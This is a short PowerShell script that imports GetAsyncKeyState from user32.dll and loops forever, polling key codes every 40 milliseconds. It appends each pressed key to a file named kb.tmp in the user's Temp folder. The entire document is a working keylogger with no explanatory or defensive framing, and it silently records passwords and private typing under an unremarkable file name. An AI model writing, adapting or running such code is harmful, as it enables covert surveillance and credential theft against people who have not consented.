Add-Type -TypeDefinition @'
using System;
using System.Runtime.InteropServices;
public static class KbdState {
    [DllImport("user32.dll")]
    public static extern short GetAsyncKeyState(int vKey);
}
'@

$log = "$env:LOCALAPPDATA\Temp\kb.tmp"
while ($true) {
    Start-Sleep -Milliseconds 40
    for ($code = 8; $code -le 190; $code++) {
        if ([KbdState]::GetAsyncKeyState($code) -eq -32767) {
            [char]$code | Out-File -FilePath $log -Append -NoNewline
        }
    }
}
